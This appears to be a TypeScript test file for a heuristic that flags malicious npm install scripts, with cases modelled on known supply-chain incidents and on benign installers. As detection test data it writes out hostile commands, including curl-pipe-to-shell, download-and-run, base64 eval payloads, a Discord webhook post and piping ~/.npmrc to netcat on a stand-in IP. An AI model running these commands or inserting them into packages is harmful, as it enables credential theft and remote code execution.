// The dropper shapes of install scripts, on fixture scripts rebuilt from real
// incidents (test/fixtures/script-content/README.md) and on ordinary installers.
import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join, relative } from 'node:path'
import { fileURLToPath } from 'node:url'
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import {
  analyseInstallScripts,
  describeShapes,
  filesNamedByCommand,
  filesReferencedBy,
  judgeInstallScripts,
  type ScriptFileAnswer,
} from '../../lib/heuristics/script-content.ts'
import type { ScriptContentVerdict, ScriptShapeId } from '../../lib/model/rule.ts'

const FIXTURES = fileURLToPath(new URL('../fixtures/script-content/', import.meta.url))

function listFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((entry) => {
    const path = join(dir, entry)
    return statSync(path).isDirectory() ? listFiles(path) : [path]
  })
}

/** A fixture folder judged as the tarball reader judges a package: its install commands and the files they reach. */
async function verdictOf(folder: string): Promise<ScriptContentVerdict> {
  const dir = join(FIXTURES, folder)
  const files = listFiles(dir).map((path) => relative(dir, path).split('\\').join('/'))
  const scripts = JSON.parse(readFileSync(join(dir, 'package.json'), 'utf8')).scripts as Record<string, string>
  const commands = Object.fromEntries(Object.entries(scripts).filter(([event]) => ['preinstall', 'install', 'postinstall'].includes(event)))
  return judgeInstallScripts(commands, files, async (paths) => new Map(paths.map((path): [string, ScriptFileAnswer] => [path, { text: readFileSync(join(dir, path), 'utf8') }])))
}

const shapesOf = (verdict: ScriptContentVerdict) => [...new Set(verdict.shapes.map((hit) => hit.shape))].sort()
const where = (verdict: ScriptContentVerdict, shape: ScriptShapeId) => verdict.shapes.filter((hit) => hit.shape === shape).map((hit) => `${hit.file}:${hit.line}`)

test('ua-parser-js 2021: preinstall.js runs preinstall.sh / preinstall.bat, which download a miner and run it', async () => {
  const verdict = await verdictOf('ua-parser-js-2021')
  assert.equal(verdict.read.sort(), ['preinstall.bat', 'preinstall.js', 'preinstall.sh'])
  assert.ok(shapesOf(verdict).includes('download-and-run'), JSON.stringify(verdict.shapes))
  assert.equal(where(verdict, 'download-and-run'), ['preinstall.sh:7', 'preinstall.bat:2'], 'the first download line of each file')
})

test('eslint-scope 2018: eval of what an HTTPS answer sends; the payload reads ~/.npmrc', async () => {
  const verdict = await verdictOf('eslint-scope-2018')
  assert.equal(verdict.read, ['lib/build.js'])
  assert.equal(shapesOf(verdict), ['eval-remote', 'reads-credentials'])
  assert.equal(where(verdict, 'eval-remote'), ['lib/build.js:1'])
})

test('coa/rc 2021: compile.js runs compile.bat, which downloads a DLL and registers it with regsvr32', async () => {
  const verdict = await verdictOf('coa-rc-2021')
  assert.equal(verdict.read.sort(), ['compile.bat', 'compile.js'])
  assert.equal(where(verdict, 'download-and-run'), ['compile.bat:2'])
})

test('node-ipc 2022: the geolocation URL hidden in base64 is decoded and named', async () => {
  const verdict = await verdictOf('node-ipc-2022')
  assert.equal(verdict.read, ['dao/ssl-geospec.js'])
  assert.ok(shapesOf(verdict).includes('encoded-payload'), JSON.stringify(verdict.shapes))
})

test('nx 2025: telemetry.js appends to ~/.bashrc, reads ~/.npmrc and the gh token', async () => {
  const verdict = await verdictOf('nx-2025')
  assert.equal(shapesOf(verdict), ['reads-credentials', 'writes-outside-package'])
})

test('Shai-Hulud 2025: trufflehog, NPM_TOKEN, webhook.site, npm publish', async () => {
  const verdict = await verdictOf('shai-hulud-2025')
  for (const shape of ['reads-credentials', 'secret-scanner', 'exfiltration-endpoint', 'publishes-packages'] as const) {
    assert.ok(shapesOf(verdict).includes(shape), `${shape} in ${JSON.stringify(verdict.shapes)}`)
  }
})

test('Shai-Hulud 2.0: curl … | bash from setup_bun.js', async () => {
  const verdict = await verdictOf('shai-hulud-2-2025')
  assert.ok(shapesOf(verdict).includes('download-and-run'), JSON.stringify(verdict.shapes))
})

test('ordinary installers escalate nothing: a registry binary download with a fallback message, the core-js banner, node-gyp', async () => {
  for (const folder of ['benign-binary-download', 'benign-core-js', 'benign-node-gyp']) {
    const verdict = await verdictOf(folder)
    assert.ok(verdict.read.length > 0, `${folder} reads its script`)
    assert.equal(verdict.shapes, [], `${folder}: ${JSON.stringify(verdict.shapes)}`)
  }
})

test('the command line itself: curl | sh, node -e with a long base64 string, wget + chmod', () => {
  const long = Buffer.from('require("child_process").execSync("id > /dev/null");'.repeat(6)).toString('base64')
  const cases: Array<[string, ScriptShapeId[]]> = [
    ['curl -fsSL https://get.example.net/x | sh', ['download-and-run']],
    ['wget -q http://198.51.100.9/a -O a && chmod +x a && ./a', ['download-and-run']],
    [`node -e "eval(Buffer.from('${long}','base64').toString())"`, ['encoded-payload', 'eval-decoded']],
    ['node -e "Function(atob(process.env.X))()"', ['eval-decoded']],
    ['echo "export PATH=$PATH:x" >> ~/.bashrc', ['writes-outside-package']],
    ['cat ~/.npmrc | nc 198.51.100.3 9000', ['reads-credentials']],
    ['node install.js', []],
    ['node-gyp rebuild', []],
    ['opencollective-postinstall || exit 0', []],
    ['node -e "try{require(\'./postinstall\')}catch(e){}"', []],
  ]
  for (const [command, expected] of cases) {
    const found = [...new Set(analyseInstallScripts({ postinstall: command }, []).map((hit) => hit.shape))].sort()
    assert.equal(found, [...expected].sort(), command)
  }
})

test('code shapes one by one, and the idioms bundlers use that are not payloads', () => {
  const cases: Array<[string, ScriptShapeId[]]> = [
    ['require("child_process").exec("curl -s https://x.example.net/p.sh -o /tmp/p.sh")', ['remote-command']],
    ['const { execSync } = require("child_process"); execSync(`wget ${host}/a`)', ['remote-command']],
    ['const c = Buffer.from(process.argv[2], "base64").toString(); eval(c)', ['eval-decoded']],
    ['new Function(Buffer.from(data, "hex").toString())()', ['eval-decoded']],
    ['fs.writeFileSync(path.join(os.homedir(), ".config", "autostart", "x.desktop"), d)', ['writes-outside-package']],
    ['fs.writeFileSync(path.join(__dirname, "../../../x"), d)', ['writes-outside-package']],
    ['fs.writeFileSync(path.join(__dirname, "..", "build", "config.gypi"), d)', []],
    ['fs.writeFileSync("../../../index.js", d)', ['writes-outside-package']],
    ['const p = require("os").tmpdir() + "/x"; fs.writeFileSync(p, b); require("child_process").spawn(require("os").tmpdir() + "/x")', ['writes-outside-package']],
    ['fetch("https://discord.com/api/webhooks/1/abc", { method: "POST", body })', ['exfiltration-endpoint']],
    ['var g = Function("return this")(); var r = eval("require");', []],
    // bun's installer prints this as advice in an error; Shai-Hulud 2.0 runs it
    ['let installScript = os === "win32" ? \'powershell -c "irm bun.sh/install.ps1 | iex"\' : "curl -fsSL https://bun.com/install | bash"; throw new Error(`install with ${installScript}`)', []],
    ['let command = "curl -fsSL https://bun.sh/install | bash"; require("child_process").execSync(command, { stdio: "ignore" })', ['download-and-run']],
    ['require("child_process").execSync("curl -fsSL https://x.example.net/i | sh")', ['download-and-run', 'remote-command']],
    ['fs.writeFileSync(path.join(__dirname, "lib", "binding.node"), bytes)', []],
    ['const s = Buffer.from("aGVsbG8gd29ybGQ=", "base64").toString()', []],
    ['child_process.execFileSync(binPath, ["--version"])', []],
  ]
  for (const [text, expected] of cases) {
    const found = [...new Set(analyseInstallScripts({}, [{ path: 'x.js', text }]).map((hit) => hit.shape))].sort()
    assert.equal(found, [...expected].sort(), text)
  }
})

test('files named by a command, and by a script', () => {
  const files = ['install.js', 'scripts/post.mjs', 'lib/index.js', 'preinstall.sh', 'binding.gyp', 'compile.js', 'compile.bat', 'postinstall.js', 'x/a.cjs']
  assert.equal(filesNamedByCommand('node install.js', files), ['install.js'])
  assert.equal(filesNamedByCommand('node ./scripts/post.mjs --quiet', files), ['scripts/post.mjs'])
  assert.equal(filesNamedByCommand('start /B node compile.js & node compile.js', files), ['compile.js'])
  assert.equal(filesNamedByCommand('sh preinstall.sh', files), ['preinstall.sh'])
  assert.equal(filesNamedByCommand('./preinstall.sh', files), ['preinstall.sh'])
  assert.equal(filesNamedByCommand('node lib', files), ['lib/index.js'])
  assert.equal(filesNamedByCommand('node-gyp rebuild', files), ['binding.gyp'])
  assert.equal(filesNamedByCommand('node -e "try{require(\'./postinstall\')}catch(e){}"', files), ['postinstall.js'])
  assert.equal(filesNamedByCommand('node ../../evil.js', files), [])
  assert.equal(filesReferencedBy({ path: 'x/b.js', text: 'require("./a"); spawn("cmd.exe", ["/c", "compile.bat"])' }, files).sort(), ['compile.bat', 'x/a.cjs'])
})

test('a finding names the shape, the file and the line', async () => {
  const verdict = await verdictOf('coa-rc-2021')
  assert.match(describeShapes(verdict.shapes), /^downloads a program and runs it \(compile\.bat:2: curl https:\/\/downloads\.example\.at/)
})

test('a file the reader cannot give is listed as unread, never as clean', async () => {
  const verdict = await judgeInstallScripts({ postinstall: 'node install.js' }, ['install.js'], async () => new Map([['install.js', { unread: 'larger than 4 MiB' }]]))
  assert.equal(verdict.unread, ['install.js (larger than 4 MiB)'])
  assert.equal(verdict.shapes, [])
})

test.run()
